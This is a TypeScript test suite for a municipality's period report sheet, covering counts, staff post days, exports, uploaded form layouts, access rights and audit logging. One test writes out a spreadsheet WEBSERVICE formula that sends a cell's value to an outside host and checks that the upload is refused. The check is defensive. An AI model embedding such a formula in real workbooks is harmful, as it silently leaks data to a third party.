/** The period sheet of the example municipality: its numbers, what is to be settled, its layouts and the narrative report. */
import assert from 'node:assert/strict'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { readXlsx, writeXlsx } from 'hucre/xlsx'
import { sql } from 'kysely'
import { readExample } from '../../../test/example.ts'
import { opened, pagesOf, textOf } from '../../../test/paper.ts'
import { countPostsAgain } from '../../../test/second-count.ts'
import { openWorld, type Actor, type World } from '../../../test/world.ts'
import type { Tx } from '../../base/db.ts'
import { press } from '../../base/paper/press.ts'
import { bookFile } from '../../base/sheet.ts'
import { readFigures } from '../figures/figures.api.ts'
import { listQuality } from '../quality/quality.api.ts'
import { listLayouts, printSheet, putLayout, readSheet, restoreLayout, takeLayout } from './period-sheet.api.ts'
import type { PeriodSheet, SheetFormat } from './period-sheet.ts'

let world: World, lead: Actor, anna: Actor
before(async () => {
  world = await openWorld('2026-11-23')
  lead = await world.actor('lead', 'Leitung')
  anna = await world.actor('caseworker', 'Anna Beispiel')
  await readExample(world, lead)
})
after(async () => { press.close(); await world.close() })

const year = { from: '2022-01-01', to: '2022-12-31' }
const bytes = async (answer: unknown) => Buffer.from(await (answer as Blob).arrayBuffer())
const print = async (format: SheetFormat, period = year) => bytes(await lead.call(printSheet, { input: { ...period, format } }))
const rowOf = (sheet: PeriodSheet, field: string) => sheet.sections.flatMap(({ rows }) => rows).find((row) => row.field === field)?.values
const layout = async (rows: (string | number | null)[][]) => new File([new Uint8Array((await bookFile('Formular', [{ name: 'Meldung', rows }], 'xlsx')).body)], 'formular.xlsx')
const told = (work: Promise<unknown>): Promise<string> => work.then(() => 'taken', (error: Error & { fields?: Record<string, string> }) => Object.values(error.fields ?? {})[0] ?? error.message)
/** For looking at: PICTURES=folder. */
const keep = (name: string, body: Uint8Array): void => { if (process.env.PICTURES) writeFileSync(join(process.env.PICTURES, name), body) }

test('the whole organisation stands first, its numbers are those of the Auswertung, and those of the colleagues add up', async () => {
  const sheet = await lead.call(readSheet, { input: year }), figures = await lead.call(readFigures, { input: { ...year, on: year.to } })
  assert.deepEqual([sheet.columns[0], sheet.period, sheet.isRunning, sheet.years[0]], [{ kind: 'all', id: '', label: 'gesamt' }, '2022', false, 2026])
  assert.deepEqual([rowOf(sheet, 'persons.inCare')![0], rowOf(sheet, 'consultations.all')![0], rowOf(sheet, 'plans.made')![0]], [110, figures.consultations.all, figures.plans.made])
  for (const [form, n] of Object.entries(figures.consultations.byForm)) assert.equal(rowOf(sheet, `consultations.byForm.${form}`)![0], n, form)
  for (const [topic, n] of Object.entries(figures.consultations.byTopic)) assert.equal(rowOf(sheet, `consultations.byTopic.${topic}`)![0], n, topic)
  const [whole, ...each] = rowOf(sheet, 'consultations.all')!, colleagues = sheet.columns.slice(1)
  assert.ok(colleagues.length >= 2 && colleagues.every(({ kind }) => kind === 'caseworker'))
  assert.equal(each.reduce<number>((sum, n) => sum + n!, 0), whole)
  for (const [at, { label }] of colleagues.entries()) assert.equal(each[at], figures.consultations.byCaseworker[label] ?? 0, label)
  assert.ok(sheet.posts.every(({ funded_days }) => funded_days === 365))
})

test('the proof of posts tells vacant, absent and replaced days apart, in days and months, as a second count by days and the Auswertung say', async () => {
  const id = crypto.randomUUID(), period = { from: '2024-01-01', to: '2024-12-31' }
  await world.all.insertInto('positions').values([{ id, user_id: anna.id, share_percent: 80, funded_from: '2024-01-01', funded_through: '2024-11-30', funder: 'Land' }, { id: crypto.randomUUID(), user_id: null, share_percent: 40, funded_from: '2024-12-01', funded_through: '2024-12-31', funder: 'Land' }]).execute()
  await world.all.insertInto('absences').values([
    { id: crypto.randomUUID(), position_id: id, absent_from: '2024-02-01', absent_through: '2024-02-29', kind: 'urlaub' },
    { id: crypto.randomUUID(), position_id: id, absent_from: '2024-04-01', absent_through: '2024-06-30', kind: 'elternzeit', replaced_by: lead.id, replaced_from: '2024-05-01' },
    { id: crypto.randomUUID(), position_id: id, absent_from: '2024-09-01', absent_through: '2024-09-30', kind: 'vakanz', is_vacant: true },
  ]).execute()
  const { initials } = await world.all.selectFrom('users').select('initials').where('id', '=', anna.id).executeTakeFirstOrThrow()
  const sheet = await lead.call(readSheet, { input: period }), days = ({ funded_days, vacant_days, absent_days, replaced_days }: PeriodSheet['posts'][number]) => [funded_days, vacant_days, absent_days, replaced_days]
  assert.deepEqual(sheet.posts.map((post) => [post.holder, ...days(post)]), [[initials, 335, 30, 59, 61], ['unbesetzt', 31, 31, 0, 0]])
  assert.deepEqual((await countPostsAgain(world.all as unknown as Tx, period)).map(({ holder, funded, vacant, absent, replaced }) => [holder, funded, vacant, absent, replaced]), sheet.posts.map((post) => [post.holder, ...days(post)]))
  assert.deepEqual((await lead.call(readFigures, { input: { ...period, on: period.to } })).more.vacantDays, { unbesetzt: 31, [initials!]: 30 })
  const { sheets } = await readXlsx(await print('xlsx', period)), [, heads, first] = sheets[1]!.rows
  assert.deepEqual([heads!.slice(6), first!.slice(6)], [['Tage gefördert', 'Monate gefördert', 'Tage unbesetzt', 'Monate unbesetzt', 'Tage abwesend', 'Monate abwesend', 'Tage ersetzt', 'Monate ersetzt'], [335, 11, 30, 1, 59, 1.9, 61, 2]])
  await lead.call(putLayout, { input: { remark: '' }, files: [await layout([['{{zeitraum}}', '{{consultations.all}}', '{{stelle.unbesetzt.monate@1}}', '{{stelle.abwesend@1}}', '{{stelle.ersetzt.monate@1}}']])] })
  assert.deepEqual((await readXlsx(await print('xlsx', period))).sheets[0]!.rows[0]!.slice(2), [1, 59, 2])
  assert.match(textOf(await print('pdf', period)), /1,9 \(59\)/)
  await sql`alter table sheet_layouts disable trigger user`.execute(world.all)
  await world.all.deleteFrom('sheet_layouts').execute()
  await sql`alter table sheet_layouts enable trigger user`.execute(world.all)
  await world.all.deleteFrom('absences').where('position_id', '=', id).execute()
  await world.all.deleteFrom('positions').where('funder', '=', 'Land').execute()
})

test('what would be asked when it arrives is told before', async () => {
  const before = (await lead.call(readSheet, { input: year })).doubts.map(({ text }) => text)
  assert.ok(before.some((text) => /Personen haben am Stichtag keinen Integrationsplan\.$/.test(text)), before.join('\n'))
  assert.ok(!before.some((text) => /eigene Vorlage/.test(text)))
  const untold = before.find((text) => /kein Thema/.test(text))
  await world.all.insertInto('consultations').values({ id: crypto.randomUUID(), caseworker_id: anna.id, held_on: '2022-05-05', form: 'telefon', is_family: false, persons_reached: 1 }).execute()
  const { doubts } = await lead.call(readSheet, { input: year }), after = doubts.map(({ text }) => text)
  assert.ok(after.some((text) => /hat beraten, hatte im Zeitraum aber keine geförderte Stelle/.test(text)), after.join('\n'))
  assert.notEqual(after.find((text) => /kein Thema/.test(text)), untold)
  assert.equal(doubts.find(({ text }) => /kein Thema/.test(text))!.href, `/berichte/datenqualitaet?art=talk-topic&von=${year.from}&bis=${year.to}`)
  const listed = await anna.call(listQuality, { input: { filter: { is_aside: ['false'], kind: ['talk-topic'], from: [year.from], to: [year.to] } } })
  assert.deepEqual(listed.rows.map(({ name, on_day }) => [name, on_day]), [['anonym', '2022-05-05']], 'where the link leads, the own anonymous talk of years ago is listed')
  await world.all.deleteFrom('consultations').where('caseworker_id', '=', anna.id).execute()
})

test('the workbook holds the numbers as numbers, the posts and the definitions', async () => {
  const body = await print('xlsx'), { sheets } = await readXlsx(body)
  keep('auswertung.xlsx', body)
  assert.deepEqual(sheets.map(({ name }) => name), ['Auswertung Zeitraum', 'Stellen', 'Zu klären', 'So wird gezählt'])
  assert.ok(sheets[0]!.rows.some((row) => row[0] === 'in Betreuung' && row[1] === 110))
  assert.ok(sheets[1]!.rows.some((row) => row[6] === 365))
})

test('the narrative report stays on three pages, in ODT and PDF, even with much written by hand', async () => {
  const long = Array.from({ length: 40 }, (_, at) => `Absatz ${at}. ${'Das Jahr war reich an Arbeit. '.repeat(12)}`).join('\n\n').slice(0, 5000)
  await world.all.insertInto('report_texts').values(['staff', 'counselling', 'outlook'].map((chapter) => ({ id: crypto.randomUUID(), from_day: year.from, to_day: year.to, chapter, title: '', body: long, written_by: lead.id }))).execute()
  for (const body of [await print('pdf'), opened(await print('odt'), 'pdf')]) {
    const pages = pagesOf(body), text = textOf(body)
    assert.ok(pages.length <= 3, `${pages.length} pages`)
    for (const part of [/110 Personen in Betreuung/, /Stellen/, /Absatz 0\./, /hier gekürzt/]) assert.match(text, part)
  }
  keep('sachbericht.pdf', await print('pdf'))
})

test('the layout that comes with the program is taken out, handed in again and filled', async () => {
  const body = await bytes(await lead.call(takeLayout, { input: { edition: 0 } }))
  const made = await lead.call(putLayout, { input: { remark: 'Formular 2026' }, files: [new File([new Uint8Array(body)], 'vorlage.xlsx')] })
  assert.deepEqual([made.edition, made.remark, made.made_by_name], [1, 'Formular 2026', 'Leitung'])
  const { sheets: [first] } = await readXlsx(await print('xlsx'))
  assert.ok(first!.rows.some((row) => row[0] === 'in Betreuung' && row[1] === 110 && row[2] !== undefined))
  assert.ok(!JSON.stringify(first!.rows).includes('{{'), 'no field is left unfilled')
})

test('an official form keeps its words and formulas; LibreOffice counts them anew', async () => {
  const rows = [['Meldung an das Landratsamt'], ['Zeitraum', 'vom {{von}} bis {{bis}}'], ['Beratungen', '{{consultations.all}}'], ['davon mit Familien', '{{ consultations.family }}'], ['erste Kraft', '{{spalte@1}}', '{{consultations.all@1}}'], ['zwölfte Kraft', '{{spalte@12}}', '{{consultations.all@12}}'], ['doppelt', null]]
  const official = await writeXlsx({ sheets: [{ name: 'Meldung', rows, cells: new Map([['6,1', { value: null, formula: 'B3*2', formulaResult: 0 }]]) }] })
  await lead.call(putLayout, { input: { remark: '' }, files: [new File([new Uint8Array(official)], 'formular.xlsx')] })
  const body = await print('xlsx'), { sheets: [form] } = await readXlsx(body), sheet = await lead.call(readSheet, { input: year })
  assert.deepEqual(form!.rows.slice(0, 4), [['Meldung an das Landratsamt'], ['Zeitraum', 'vom 01.01.2022 bis 31.12.2022'], ['Beratungen', rowOf(sheet, 'consultations.all')![0]], ['davon mit Familien', rowOf(sheet, 'consultations.family')![0]]].map((row) => [...row, ...Array.from({ length: form!.rows[0]!.length - row.length }, () => null)]))
  assert.deepEqual([form!.rows[4]![1], form!.rows[4]![2]], [sheet.columns[1]!.label, rowOf(sheet, 'consultations.all')![1]])
  assert.ok(!form!.rows[5]![1] && !form!.rows[5]![2], 'a column that nobody fills stays empty')
  assert.match(opened(body, 'csv', 'xlsx').toString('latin1'), new RegExp(`doppelt,${2 * rowOf(sheet, 'consultations.all')![0]!}`))
})

test('a form with faults is refused with each fault and its cell, and the one before holds', async () => {
  const put = async (rows: (string | null)[][]) => told(lead.call(putLayout, { input: { remark: '' }, files: [await layout(rows)] }))
  assert.equal(await put([['{{von}} {{bis}}', '{{consultations.al}}']]), 'Blatt „Meldung“, Zelle B1: Das Feld „consultations.al“ gibt es nicht.')
  assert.match(await put([['{{von}} {{bis}}', '{{Consultations.All}}']]), /Gemeint ist vielleicht „consultations\.all“\./)
  assert.match(await put([['{{zeitraum}}', '{{consultations.all}']]), /Zelle B1: Hier steht eine geschweifte Klammer ohne Gegenstück/)
  assert.match(await put([['{{consultations.all}}']]), /Es fehlt der Zeitraum/)
  assert.match(await put([['{{zeitraum}}']]), /Die Vorlage nennt keine einzige Zahl/)
  assert.match(await told(lead.call(putLayout, { input: { remark: '' }, files: [new File(['Text'], 'formular.xlsx')] })), /\S/)
  assert.equal(await put([['{{zeitraum}}', '{{consultations.all}}'], [...Array.from({ length: 200 }, () => null), 'zu weit']]), '„formular.xlsx“ ist als Vorlage zu groß. Blatt „Meldung“, Zelle GS2: Eine Vorlage hat höchstens 2.000 Zeilen und 200 Spalten. Bitte leere Zeilen und Spalten hinter dem Formular löschen und neu speichern.')
  const asking = await writeXlsx({ sheets: [{ name: 'Meldung', rows: [['{{zeitraum}}', '{{consultations.all}}', null]], cells: new Map([['0,2', { value: null, formula: 'WEBSERVICE("https://example.org/?n="&B1)', formulaResult: 0 }]]) }] })
  assert.match(await told(lead.call(putLayout, { input: { remark: '' }, files: [new File([new Uint8Array(asking)], 'formular.xlsx')] })), /^„formular\.xlsx“, Blatt „Meldung“, Zelle C1: Hier werden Werte von außerhalb geholt/)
  assert.equal((await lead.call(listLayouts, {})).rows[0]!.edition, 2)
  const back = await lead.call(restoreLayout, { input: { edition: 0 } })
  assert.deepEqual([back.edition, back.is_delivered], [3, true])
  assert.equal((await readXlsx(await print('xlsx'))).sheets.length, 4)
})

test('a reversed period, one before everything and one to come are told in a sentence; colleagues take no layout in, and nobody else sees the sheet', async () => {
  const ask = (from: string, to: string) => told(lead.call(readSheet, { input: { from, to } }))
  assert.equal(await ask('2022-12-31', '2022-01-01'), 'Der Zeitraum endet vor seinem Beginn.')
  assert.match(await ask('2010-01-01', '2010-12-31'), /^Aus diesem Zeitraum ist nichts bekannt/)
  assert.match(await ask('1000-01-01', '2022-12-31'), /^So früh ist nichts bekannt: Die erste Zuweisung ist vom /)
  assert.match(await ask('2027-01-01', '2027-12-31'), /^Der Zeitraum beginnt erst am 01\.01\.2027\./)
  const running = await lead.call(readSheet, { input: { from: '2026-01-01', to: '2026-12-31' } })
  assert.deepEqual([running.isRunning, running.to, running.doubts[0]!.text], [true, '2026-11-23', 'Der Zeitraum ist noch nicht zu Ende: gezählt ist bis zum 23.11.2026.'])
  await anna.call(readSheet, { input: year })
  await assert.rejects(anna.call(putLayout, { input: { remark: '' }, files: [await layout([['{{zeitraum}}', '{{consultations.all}}']])] }), { status: 403 })
  for (const role of ['reader', 'housing', 'coordinator', 'administrator'] as const) {
    const other = await world.actor(role)
    await assert.rejects(other.call(readSheet, { input: year }), { status: 403 })
    await assert.rejects(other.call(printSheet, { input: { ...year, format: 'xlsx' } }), { status: 403 })
  }
})

test('100,000 consultations in one year are counted to the last one, and every report is still made', async () => {
  const forms = ['buero', 'telefon', 'aufsuchend', 'video']
  await world.all.transaction().execute(async (tx) => {
    // As if they had come in over the years: without writing a history row for each of them here.
    await sql`set local session_replication_role = replica`.execute(tx)
    await sql`insert into consultations (id, person_id, held_on, form, caseworker_id, topics, minutes)
      select gen_random_uuid(), p.ids[1 + n % cardinality(p.ids)], date '2021-01-01' + n % 365, (${forms}::text[])[1 + n % 4], ${anna.id}, array['arbeit'], 15
      from generate_series(0, 99999) n, (select array_agg(id) as ids from persons) p`.execute(tx)
  })
  const period = { from: '2021-01-01', to: '2021-12-31' }, before = (await world.all.selectFrom('consultations').select(({ fn }) => fn.countAll<number>().as('n')).where('held_on', '>=', period.from).where('held_on', '<=', period.to).executeTakeFirstOrThrow()).n
  assert.ok(before >= 100_000)
  const { consultations } = await lead.call(readFigures, { input: { ...period, on: period.to } })
  assert.deepEqual([consultations.all, Object.values(consultations.byForm).reduce((sum, n) => sum + n, 0)], [before, before])
  assert.equal(rowOf(await lead.call(readSheet, { input: period }), 'consultations.all')![0], before)
  assert.equal(rowOf(await lead.call(readSheet, { input: period }), 'consultations.byForm.video')![0], consultations.byForm.video)
  const { sheets } = await readXlsx(await print('xlsx', period))
  assert.ok(JSON.stringify(sheets).includes(String(before)))
})

test('whoever looks at the exact numbers of each colleague stands in the audit, also without making a file', async () => {
  await anna.call(readSheet, { input: year })
  const entry = (await world.audit('period-sheet.read')).at(-1)!
  assert.deepEqual([entry.user_id, entry.facts], [anna.id, { from: '2022-01-01', to: '2022-12-31' }])
})
